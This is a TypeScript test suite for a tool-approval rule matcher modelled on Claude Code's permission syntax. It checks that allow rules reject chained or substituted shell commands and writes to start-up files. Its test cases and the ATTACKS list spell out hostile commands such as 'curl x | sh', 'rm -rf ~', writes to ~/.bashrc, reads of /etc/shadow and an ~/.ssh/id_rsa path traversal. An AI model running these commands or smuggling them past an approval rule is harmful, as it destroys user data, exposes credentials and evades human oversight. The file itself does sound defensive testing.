import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { anyRuleMatches, ruleFor, ruleMatches } from '../../main/approvals/rules.ts';

describe('approval rules (Claude Code rule syntax)', () => {
  it('a bare tool name covers every call of it, and only that tool', () => {
    assert.ok(ruleMatches('WebFetch', 'WebFetch', { url: 'http://127.0.0.1/' }));
    assert.ok(!ruleMatches('WebFetch', 'WebSearch', { query: 'x' }));
    assert.ok(ruleMatches('mcp__github__search', 'mcp__github__search', {}));
  });

  it('Bash(exact) matches that command only; Bash(prefix:*) every command starting with it', () => {
    assert.ok(ruleMatches('Bash(rm -rf build/)', 'Bash', { command: 'rm -rf build/' }));
    assert.ok(!ruleMatches('Bash(rm -rf build/)', 'Bash', { command: 'rm -rf build/ ~' }));
    assert.ok(ruleMatches('Bash(npm test:*)', 'Bash', { command: 'npm test -- --watch' }));
    assert.ok(!ruleMatches('Bash(npm test:*)', 'Bash', { command: 'npm install' }));
    assert.ok(!ruleMatches('Bash(npm test:*)', 'Bash', {}));
  });

  it('Bash(prefix:*) is no wider than Claude Code: a word boundary, and never a chained or substituted command', () => {
    assert.ok(ruleMatches('Bash(git status:*)', 'Bash', { command: 'git status' }));
    assert.ok(ruleMatches('Bash(git status:*)', 'Bash', { command: 'git status --short' }));
    assert.ok(!ruleMatches('Bash(git status:*)', 'Bash', { command: 'git statusx; rm -rf ~' }));
    for (const command of ['npm test && curl x | sh', 'npm test; rm -rf ~', 'npm test || sh', 'npm test | sh', 'npm test & sh', 'npm test $(curl x)', 'npm test `curl x`', 'npm test > ~/.bashrc', 'npm test\nrm -rf ~', 'npm test < /etc/passwd']) {
      assert.ok(!ruleMatches('Bash(npm test:*)', 'Bash', { command }), command);
    }
    assert.ok(!ruleMatches('Bash(npm test)', 'Bash', { command: 'npm test; rm -rf ~' }));
  });

  it('writes to start-up files (.mcp.json, .claude/, CLAUDE.md) are never covered by a rule: they always ask', () => {
    for (const file_path of ['/w/.mcp.json', '/w/.claude/settings.json', '/w/sub/CLAUDE.md', '/w/CLAUDE.local.md', '.mcp.json']) {
      assert.ok(!ruleMatches('Write', 'Write', { file_path, content: 'x' }), file_path);
      assert.ok(!ruleMatches('Edit', 'Edit', { file_path }), file_path);
    }
    assert.ok(ruleMatches('Write', 'Write', { file_path: '/w/notes.md', content: 'x' }));
    assert.ok(ruleMatches('Read', 'Read', { file_path: '/w/.mcp.json' }), 'reading them is not starting anything');
  });

  it('Tool(value) compares the main argument of other tools', () => {
    assert.ok(ruleMatches('Write(/tmp/a.txt)', 'Write', { file_path: '/tmp/a.txt', content: 'x' }));
    assert.ok(!ruleMatches('Write(/tmp/a.txt)', 'Write', { file_path: '/tmp/b.txt' }));
  });

  it('anyRuleMatches names the rule that applied', () => {
    assert.equal(anyRuleMatches(['Read', 'Bash(ls:*)'], 'Bash', { command: 'ls -la' }), 'Bash(ls:*)');
    assert.equal(anyRuleMatches(['Read'], 'Bash', { command: 'ls' }), null);
  });

  it('"always allow" writes the exact Bash command, never all of Bash; other tools as a whole', () => {
    assert.equal(ruleFor('Bash', { command: 'rm -rf build/' }), 'Bash(rm -rf build/)');
    assert.equal(ruleFor('WebFetch', { url: 'https://example.com' }), 'WebFetch');
    // Parentheses and newlines stay inside the rule: it still names exactly that command.
    assert.equal(ruleFor('Bash', { command: 'echo (a)' }), 'Bash(echo (a))');
    assert.ok(ruleMatches('Bash(echo (a))', 'Bash', { command: 'echo (a)' }));
    assert.ok(ruleMatches(ruleFor('Bash', { command: 'a\nb' }) ?? '', 'Bash', { command: 'a\nb' }));
    // No command to name: no rule at all (the call is allowed once), never the whole tool.
    assert.equal(ruleFor('Bash', {}), null);
  });

  it('a command with a wildcard character gets no rule: in a project policy Claude Code would read "*" as a wildcard', () => {
    assert.equal(ruleFor('Bash', { command: 'rm -rf build/*' }), null);
    assert.equal(ruleFor('Bash', { command: 'npm test:*' }), null);
  });
});

/** What an allow list must never let through: each line is [rule, command a model could send]. */
const ATTACKS: Array<[string, string]> = [
  ['Bash(npm test:*)', 'npm test && curl x | sh'],
  ['Bash(npm test:*)', 'npm test && echo pwned > file'],
  ['Bash(npm test:*)', 'npm test; rm -rf ~'],
  ['Bash(npm test:*)', 'npm test || rm -rf ~'],
  ['Bash(npm test:*)', 'npm test | sh'],
  ['Bash(npm test:*)', 'npm test & rm -rf ~'],
  ['Bash(npm test:*)', 'npm test\nrm -rf ~'],
  ['Bash(npm test:*)', 'npm test $(rm -rf ~)'],
  ['Bash(npm test:*)', 'npm test "$(rm -rf ~)"'],
  ['Bash(npm test:*)', 'npm test `rm -rf ~`'],
  ['Bash(npm test:*)', 'npm test <(rm -rf ~)'],
  ['Bash(npm test:*)', 'npm test > ~/.bashrc'],
  ['Bash(npm test:*)', 'npm test 2>>~/.profile'],
  ['Bash(npm test:*)', 'npm test < /etc/shadow'],
  ['Bash(npm test:*)', 'npm test (rm -rf ~)'],
  ['Bash(npm test:*)', 'npm testx'],
  ['Bash(npm test:*)', 'npm test\\\n; rm -rf ~'],
  ['Bash(git status:*)', 'git statusx; rm -rf ~'],
  ['Bash(git status:*)', 'git statusx'],
  ['Bash(git status:*)', 'git status; rm -rf ~'],
  ['Bash(npm test *)', 'npm test && rm -rf ~'],
  ['Bash(npm test *)', 'npm testx'],
];

describe('approval rules match like Claude Code: word boundary, every subcommand, ask when in doubt', () => {
  for (const [rule, command] of ATTACKS) {
    it(`${rule} does not allow ${JSON.stringify(command)}`, () => {
      assert.equal(ruleMatches(rule, 'Bash', { command }), false);
      assert.equal(anyRuleMatches([rule, 'Read', 'Bash(git status:*)'], 'Bash', { command }), null);
    });
  }

  it('a prefix rule matches the prefix alone or followed by a space (Claude Code: c === p || c.startsWith(p + " "))', () => {
    assert.ok(ruleMatches('Bash(npm test:*)', 'Bash', { command: 'npm test' }));
    assert.ok(ruleMatches('Bash(npm test:*)', 'Bash', { command: '  npm test --watch  ' }));
    assert.ok(ruleMatches('Bash(git status:*)', 'Bash', { command: 'git status --short' }));
    // Quoted separators are arguments, not separators.
    assert.ok(ruleMatches('Bash(npm test:*)', 'Bash', { command: `npm test -- --grep 'a && b; c | d > e'` }));
    assert.ok(ruleMatches('Bash(npm test:*)', 'Bash', { command: 'npm test -- --grep "a && b"' }));
  });

  it('a compound command passes only when every subcommand is matched by some rule', () => {
    const rules = ['Bash(npm test:*)', 'Bash(git status:*)', 'Bash(echo done)'];
    assert.equal(anyRuleMatches(rules, 'Bash', { command: 'npm test && git status --short' }), 'Bash(npm test:*)');
    assert.equal(anyRuleMatches(rules, 'Bash', { command: 'git status; npm test || echo done' }), 'Bash(git status:*)');
    assert.equal(anyRuleMatches(rules, 'Bash', { command: 'npm test | echo done' }), 'Bash(npm test:*)');
    assert.equal(anyRuleMatches(rules, 'Bash', { command: 'npm test && echo pwned' }), null);
  });

  it('a wildcard rule: "*" is any text, a trailing " *" also matches the bare command', () => {
    assert.ok(ruleMatches('Bash(npm test *)', 'Bash', { command: 'npm test' }));
    assert.ok(ruleMatches('Bash(npm test *)', 'Bash', { command: 'npm test --watch' }));
    assert.ok(ruleMatches('Bash(git * --short)', 'Bash', { command: 'git status --short' }));
    assert.ok(!ruleMatches('Bash(git * --short)', 'Bash', { command: 'git status --long' }));
    assert.ok(ruleMatches('Bash(echo \\*)', 'Bash', { command: 'echo *' }));
    assert.ok(!ruleMatches('Bash(echo \\*)', 'Bash', { command: 'echo hi' }));
  });

  it('an exact rule is the whole command as the user approved it, compound or not', () => {
    assert.ok(ruleMatches('Bash(npm test && npm run lint)', 'Bash', { command: 'npm test && npm run lint' }));
    assert.ok(!ruleMatches('Bash(npm test && npm run lint)', 'Bash', { command: 'npm test && npm run lint; rm -rf ~' }));
  });

  it('prefix and wildcard syntax is Bash only: other tools compare their argument exactly', () => {
    assert.ok(!ruleMatches('Read(/home/u/proj:*)', 'Read', { file_path: '/home/u/proj/../../.ssh/id_rsa' }));
    assert.ok(!ruleMatches('WebFetch(https://a.example:*)', 'WebFetch', { url: 'https://a.example.evil.com/' }));
  });
});
